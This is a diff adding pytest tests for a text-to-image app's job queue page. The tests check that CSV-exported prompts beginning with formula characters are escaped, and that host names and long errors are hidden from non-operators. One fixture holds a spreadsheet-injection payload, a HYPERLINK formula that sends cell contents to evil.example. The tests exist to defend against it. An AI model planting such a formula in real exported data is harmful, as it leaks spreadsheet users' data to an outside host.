@@ -353,4 +353,72 @@ def test_queue_page_shows_counts_executors_and_throughput(app, seeded):
     assert metrics["done"] == str(store.counts()["done"]) and set(metrics) == set(store.counts())
     assert any("finished in the last minute" in c.value for c in at.caption)
     executors = at.dataframe[0].value
-    assert "gpu-host-7" in list(executors["executor"]) and "cuda:0" in list(executors["device"])
+    assert "cuda:0" in list(executors["device"])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+LONG_ERROR = "internal error (OSError: /srv/t2i/checkpoints/secret-path/model.ckpt " + "x" * 200 + ")"
+TOKEN = "operator-token-0123456789abcdef"
+
+
+@pytest.fixture
+def queue_app(tmp_path, monkeypatch):
+    """A store of its own (claiming a job must not take another test's): a job whose prompt is a
+    spreadsheet formula, a failed job with a long error, and one executor on host gpu-host."""
+    url = f"sqlite:///{tmp_path / 'queue.db'}"
+    store = open_store(url)
+    failed = submit_job(store, "a cat", "tiny-vqgan-untrained", iterations=1)
+    store.fail(store.claim("gpu-host-4242-abcdef", 60).lease, LONG_ERROR)
+    formula = submit_job(store, FORMULA, "tiny-vqgan-untrained", iterations=1)
+    store.worker_seen("gpu-host-4242-abcdef", host="gpu-host", device="cuda:0", job_id=None)
+    monkeypatch.setenv("T2I_DB", url)
+    monkeypatch.setenv("T2I_OPERATOR_TOKEN", TOKEN)
+
+    def make(operator=None):
+        at = AppTest.from_file(str(ROOT / "webapp.py"), default_timeout=60)
+        at.query_params["v"] = VISITOR
+        if operator is not None:
+            at.query_params["operator"] = operator
+        at.run()
+        at.switch_page("t2i/web/queue_page.py").run()
+        assert not at.exception, at.exception
+        executors, jobs = (d.value for d in at.dataframe)
+        return at, executors, jobs.set_index("id")
+    yield make, failed, formula
+    store.close()
+
+
+def cells(table) -> list[str]:
+    return [str(v) for v in table.to_numpy().ravel()] + [str(c) for c in table.columns]
+
+
+def test_queue_table_cells_are_safe_in_a_spreadsheet(queue_app):
+    """The table's "Download as CSV" exports cells as they are: a prompt starting with = (or + - @ tab
+    CR) gets a single quote in front (OWASP), so a spreadsheet shows it as text, not a formula."""
+    make, _, formula = queue_app
+    _, _, jobs = make()
+    assert jobs.loc[formula, "prompt"] == "'" + FORMULA
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells(jobs))
+
+
+def test_queue_page_hides_hosts_and_long_errors_from_visitors(queue_app):
+    make, failed, _ = queue_app
+    at, executors, jobs = make()
+    assert list(executors["executor"]) == ["#1"] and list(executors["device"]) == ["cuda:0"]
+    assert not any("gpu-host" in c or "4242" in c for c in cells(executors) + cells(jobs))
+    error = jobs.loc[failed, "error"]
+    assert error.startswith("internal error (OSError:") and error.endswith("...") and len(error) == 80
+    # A wrong token is no token (and leaves the address like the right one).
+    at, executors, _ = make(operator="guess")
+    assert "host" not in executors.columns and "operator" not in at.query_params
+
+
+def test_the_operator_sees_hosts_and_whole_errors(queue_app):
+    make, failed, _ = queue_app
+    at, executors, jobs = make(operator=TOKEN)
+    assert "operator" not in at.query_params  # out of the address bar, history and bookmarks
+    assert list(executors["executor"]) == ["gpu-host-4242-abcdef"] and list(executors["host"]) == ["gpu-host"]
+    assert jobs.loc[failed, "error"] == LONG_ERROR
+    at.switch_page("t2i/web/gallery.py").run()  # the session stays the operator's across pages
+    at.switch_page("t2i/web/queue_page.py").run()
+    assert "host" in at.dataframe[0].value.columns
